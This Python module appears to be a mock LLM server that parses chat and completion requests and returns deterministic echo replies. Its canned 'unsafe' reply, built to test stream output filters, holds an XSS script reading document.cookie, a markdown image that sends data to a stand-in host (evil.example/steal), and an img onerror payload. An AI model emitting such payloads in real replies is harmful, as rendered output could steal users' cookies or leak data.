"""Deterministic reply text, token counting and request parsing for the mock LLM.

Token counting is deliberately simplistic: a "token" is a whitespace-separated word
(``len(text.split())``). Prompt tokens are the words of every text part of every
message (chat) or of the prompt (legacy completions); completion tokens are the
words of the reply.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

UNSAFE_MARKER = "[[unsafe]]"

#: The unsafe reply, pre-split into stream chunks so that HTML/script tags straddle
#: chunk boundaries (``<scr`` / ``ipt>``, ``<im`` / ``g``): filters must reassemble.
UNSAFE_CHUNKS: tuple[str, ...] = (
    "Sure! ",
    "<scr",
    "ipt>alert(document.cookie)</scr",
    "ipt> ",
    "and ",
    "![x](https://evil.",
    "example/steal?d=secret) ",
    "<im",
    "g src=x ",
    "onerror=alert(1)>",
)
UNSAFE_REPLY = "".join(UNSAFE_CHUNKS)


class RequestError(ValueError):
    """A client error that maps to an OpenAI-style HTTP 400 response."""


@dataclass(frozen=True, slots=True)
class Reply:
    """A fully computed reply: the stream chunks plus usage and finish reason."""

    model: str
    chunks: tuple[str, ...]
    prompt_tokens: int
    finish_reason: str
    stream: bool
    include_usage: bool

    @property
    def text(self) -> str:
        """The whole reply text (the concatenation of all chunks)."""
        return "".join(self.chunks)

    @property
    def completion_tokens(self) -> int:
        """Completion token count (whitespace-split words of the reply)."""
        return count_tokens(self.text)

    def usage(self) -> dict[str, int]:
        """The OpenAI ``usage`` object."""
        done = self.completion_tokens
        return {
            "prompt_tokens": self.prompt_tokens,
            "completion_tokens": done,
            "total_tokens": self.prompt_tokens + done,
        }


def count_tokens(text: str) -> int:
    """Count tokens as whitespace-separated words."""
    return len(text.split())


def content_text(content: Any) -> str:
    """Extract text from a message ``content``: a string or a list of ``text`` parts."""
    if content is None:
        return ""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        texts: list[str] = []
        for part in content:
            if not isinstance(part, dict):
                raise RequestError("content parts must be objects")
            if part.get("type") == "text":
                text = part.get("text")
                if not isinstance(text, str):
                    raise RequestError("text content parts need a string 'text'")
                texts.append(text)
        return " ".join(texts)
    raise RequestError("message content must be a string or a list of parts")


def _reply_chunks(prompt: str, unsafe: bool, max_tokens: int | None) -> tuple[tuple[str, ...], str]:
    """Return (stream chunks, finish_reason) for the deterministic echo reply."""
    if unsafe:
        return UNSAFE_CHUNKS, "stop"
    words = ["Echo:", *prompt.split()]
    finish = "stop"
    if max_tokens is not None and len(words) > max_tokens:
        words, finish = words[:max_tokens], "length"
    chunks = [w + " " for w in words[:-1]] + words[-1:]
    return tuple(chunks), finish


def _options(body: dict[str, Any], default_model: str) -> tuple[str, bool, bool, int | None]:
    """Validate the shared options: model, stream, include_usage, max_tokens."""
    model = body.get("model", default_model)
    if not isinstance(model, str) or not model:
        raise RequestError("'model' must be a non-empty string")
    stream = body.get("stream", False)
    if not isinstance(stream, bool) and stream is not None:
        raise RequestError("'stream' must be a boolean")
    opts = body.get("stream_options")
    if opts is not None and not isinstance(opts, dict):
        raise RequestError("'stream_options' must be an object")
    include_usage = bool(opts and opts.get("include_usage") is True)
    limit = body.get("max_tokens", body.get("max_completion_tokens"))
    if limit is not None and (isinstance(limit, bool) or not isinstance(limit, int) or limit < 1):
        raise RequestError("'max_tokens' must be a positive integer")
    return model, bool(stream), include_usage, limit


def parse_chat(body: Any, default_model: str, unsafe_header: bool) -> Reply:
    """Validate a chat completions request body and compute its reply."""
    if not isinstance(body, dict):
        raise RequestError("request body must be a JSON object")
    messages = body.get("messages")
    if not isinstance(messages, list):
        raise RequestError("'messages' is required and must be a list")
    model, stream, include_usage, limit = _options(body, default_model)
    prompt_tokens, last_user = 0, ""
    for msg in messages:
        if not isinstance(msg, dict) or not isinstance(msg.get("role"), str):
            raise RequestError("each message must be an object with a string 'role'")
        text = content_text(msg.get("content"))
        prompt_tokens += count_tokens(text)
        if msg["role"] == "user":
            last_user = text
    unsafe = unsafe_header or UNSAFE_MARKER in last_user
    chunks, finish = _reply_chunks(last_user, unsafe, limit)
    return Reply(model, chunks, prompt_tokens, finish, stream, include_usage)


def parse_completion(body: Any, default_model: str, unsafe_header: bool) -> Reply:
    """Validate a legacy completions request body and compute its reply.

    A list prompt is treated as its strings joined by newlines (a single choice).
    """
    if not isinstance(body, dict):
        raise RequestError("request body must be a JSON object")
    prompt = body.get("prompt")
    if isinstance(prompt, list) and all(isinstance(p, str) for p in prompt):
        prompt = "\n".join(prompt)
    if not isinstance(prompt, str):
        raise RequestError("'prompt' is required and must be a string or a list of strings")
    model, stream, include_usage, limit = _options(body, default_model)
    unsafe = unsafe_header or UNSAFE_MARKER in prompt
    chunks, finish = _reply_chunks(prompt, unsafe, limit)
    return Reply(model, chunks, count_tokens(prompt), finish, stream, include_usage)
